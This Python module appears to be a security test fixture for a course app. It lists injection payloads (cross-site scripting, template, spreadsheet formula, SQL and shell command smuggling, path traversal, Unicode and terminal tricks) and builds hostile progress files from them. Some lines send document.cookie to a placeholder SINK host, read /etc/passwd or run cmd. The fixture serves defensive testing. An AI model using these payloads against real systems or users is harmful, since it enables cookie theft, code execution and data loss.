"""What a learner might type, or plant in a file, to make a page or a program do something.

Whatever runs calls ``canary(…)``, makes an element of the class ``evil``, leaves ``evil`` in the
browser's storage, or asks ``SINK``, a server that answers to nobody else, for something.
"""

from __future__ import annotations

from typing import Any

__all__ = ["PAYLOADS", "hostile", "lines", "pupil"]

PAYLOADS: tuple[str, ...] = (
    # Elements that run, load or navigate
    '<script class=evil>canary("script")</script>',
    '<ScRiPt class="evil" src="http://SINK/script.js"></sCrIpT>',
    "<img class=evil src=http://SINK/img onerror=canary('img')>",
    "<img/class='evil'/src='x'/onerror='canary(`slash`)'>",
    '<svg class=evil onload=canary("svg")><animate onbegin=canary("animate") attributeName=x>',
    '<svg class="evil"><script>canary("svg-script")</script><use href="http://SINK/#x"/></svg>',
    '<iframe class=evil srcdoc="<script>parent.canary(1)</script>"></iframe>',
    '<iframe class="evil" src="javascript:parent.canary(\'iframe\')"></iframe>',
    '<object class=evil data="http://SINK/object"></object><embed class=evil src=//SINK/embed>',
    "<style class=evil>@import url(http://SINK/css); body{background:url(http://SINK/bg)}</style>",
    '<link class=evil rel=stylesheet href="http://SINK/link.css">',
    '<meta class=evil http-equiv="refresh" content="0;url=http://SINK/refresh">',
    '<base class=evil href="http://SINK/base/">',
    '<form class=evil action="http://SINK/form"><button autofocus onfocus=canary("form")>x</form>',
    "<input class=evil autofocus onfocus=canary('focus')>",
    "<details class=evil open ontoggle=canary('toggle')><summary>x</summary></details>",
    "<video class=evil><source onerror=canary('video')></video>",
    "<marquee class=evil onstart=canary('marquee')>x</marquee>",
    '<body class=evil onload=canary("body")><div class=evil onpointerover=canary("over")>x</div>',
    '<math class=evil><mtext><table><mglyph><style><img src=x onerror=canary("math")>',
    "<a class=evil href=\"javascript:canary('a')\" target=_blank>x</a>",
    '<a class=evil href="data:text/html,<script>opener.canary(1)</script>">x</a>',
    "<template class=evil><img src=x onerror=canary('template')></template>",
    "<noscript><p title=\"</noscript><img class=evil src=x onerror=canary('noscript')>\">",
    "<script class=evil>localStorage.evil=1;document.cookie='evil=1'</script>",
    "<script class=evil>window.open('http://SINK/open');location='http://SINK/go'</script>",
    "<img class=evil src=x onerror=\"fetch('http://SINK/'+document.cookie)\">",
    # Ways out of where the text stands
    '</script><script class=evil>canary("close-script")</script>',
    "</style><img class=evil src=x onerror=canary('close-style')>",
    "</title></textarea></option></select><img class=evil src=x onerror=canary('close-text')>",
    "</pre></code></td></tr></table></li></ul></blockquote><h1 class=evil>course</h1>",
    '--><img class=evil src=x onerror=canary("comment")><!--',
    "]]><img class=evil src=x onerror=canary('cdata')><![CDATA[",
    '" onmouseover=canary("attribute") class=evil x="',
    "' autofocus onfocus=canary('quote') class='evil",
    "<!-- counterweight 0123456789abcdef -->",
    "&lt;img class=evil src=x onerror=canary('entity')&gt; &#60;b class=evil&#62; &amp;lt;",
    "\\u003cimg class=evil src=x onerror=canary('escape')\\u003e \\x3cscript\\x3e",
    "%3Cscript%20class=evil%3Ecanary('percent')%3C/script%3E",
    # Markdown
    '[click](javascript:canary("md-link")) and [x]: javascript:canary(1)',
    "![picture](http://SINK/md-image) ![p](x\"onerror=canary('md-title')\")",
    "[data](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuY2FuYXJ5KDEpPC9zY3JpcHQ+)",
    "<javascript:canary('autolink')> <http://SINK/autolink>",
    "# Not a heading, ## nor this, - nor a list, 1. nor that",
    "- [x] ~~gone~~ **bold** _slant_ `code` ```html <b class=evil>```",
    "| a | b | |---|---| | <b class=evil>c</b> | d |",
    "x \n\n    <b class=evil>indented</b> \n\t- tab \n--- \n=== \n```html \n> > + quoted \n",
    # Formulas
    r"\(x^2\) and \[y\] and $z$ and $$w$$ and from $36 to $550 billion",
    r"\begin{align}a&=b\end{align} and \ref{x} and \eqref{y}",
    r"\(\href{javascript:canary('tex')}{click}\) $\unicode{x3c}\class{evil}{x}$",
    r"\(\require{html}\cssId{evil}{x}\style{background:url(http://SINK/tex)}{y}\)",
    r"costs \$5, \\ two",
    # Templates
    "{{7*7}} {{ ''.__class__.__mro__[1].__subclasses__() }} {% raw %} {# x #}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('canary(1)')()}} [[7*7]]",
    "<div class=evil v-html=\"'x'\" ng-app ng-init=\"canary('ng')\">{{$on.constructor('x')}}</div>",
    "{text} {0} {0.__init__.__globals__} %s %(who)s %n @@0@@ @@1@@",
    # Unicode
    "\u202etxt.exe\u202c \u2066x\u2069 \u200f\u200bzero\u200d \ufeffbom",
    "\uff1cscript class=evil\uff1ecanary('wide')\uff1c/script\uff1e \u2039img\u203a \u02c2b\u02c3",
    "Z\u0351\u036b\u0343\u036a\u0302a\u030a\u033ag\u0349\u0354o\u0321 \U0001f3f4\u200d\u2620\ufe0f",
    # Terminals and files
    "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b]52;c;ZXZpbA==\u0007 \u009b2J",
    "../../../../etc/passwd ..\\..\\evil C:\\evil file:///etc/passwd ~root",
    # Spreadsheets
    '=HYPERLINK("http://SINK/csv","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "pads;=1+1;\t-1+1; @SUM(1)",
    # Names that programs have for themselves
    "__proto__",
    "constructor",
    '{"__proto__": {"evil": 1}, "$ref": "http://SINK/ref"}',
    "'; DROP TABLE answers; -- $(touch evil) `touch evil` | touch evil",
)


def lines(sink: str) -> list[str]:
    """Give every payload with the address and port that stand for SINK."""
    return [text.replace("SINK", sink) for text in PAYLOADS]


def hostile(sink: str) -> dict[str, Any]:
    """Make a progress file that holds every payload wherever it can hold a text.

    Parameters
    ----------
    sink : str
        Address and port that stand for SINK.

    Returns
    -------
    dict
        Valid by its form, so that it is read and shown.
    """
    at, texts = "2026-11-22T10:00:00Z", lines(sink)
    whole = "\n".join(texts)
    answers, predictions, notes = {}, {}, {}
    for number, text in enumerate(texts):
        answers[text] = {
            "kind": ("exercise", "quiz", "quiz", text)[number % 4],
            "lesson": text if number % 3 else "05",
            "value": text, "first": text, "ok": False, "first_ok": False, "tries": 1, "at": at,
        }  # fmt: skip
        predictions[f"sec.{number}"] = {"value": text, "at": text}
        predictions[text] = {"value": text, "at": at}
        notes[f"dossier.C24.use.{text}"] = {"value": text, "at": at}
        notes[text] = {"value": text, "at": text}
    kept = [{"value": text, "at": text} for text in texts]
    for name in ("grading", "reason", "change"):
        notes[f"dossier.C24.{name}"] = {"value": whole, "at": at, "kept": kept}
    notes["dossier.C24.verdict"] = {"value": texts[0], "at": texts[0]}
    for paper in ("naha", "beijing"):
        for piece in ("own", "why", "agent"):
            notes[f"headline.{paper}.{piece}"] = {"value": whole, "at": texts[1]}
    return {
        "format": 1, "who": " ".join(texts), "answers": answers, "predictions": predictions,
        "notes": notes,
    }  # fmt: skip


def pupil(sink: str, question: str, prediction: str) -> dict[str, Any]:
    """Make a hostile file that a class report takes: names of tasks as long as a course's.

    Parameters
    ----------
    sink : str
        Address and port that stand for SINK.
    question, prediction : str
        Identifiers the course knows; the answers to them come into the report as typed.
    """
    made, whole, at = hostile(sink), "\n".join(lines(sink)), "2026-11-22T10:00:00Z"
    for part in ("answers", "predictions", "notes"):
        made[part] = {key: entry for key, entry in made[part].items() if len(key) <= 80}
    made["answers"][question] = {
        "kind": "quiz", "lesson": "05", "value": whole, "first": whole, "ok": False,
        "first_ok": False, "tries": 1, "at": at,
    }  # fmt: skip
    made["predictions"][prediction] = {"value": whole, "at": at}
    return made
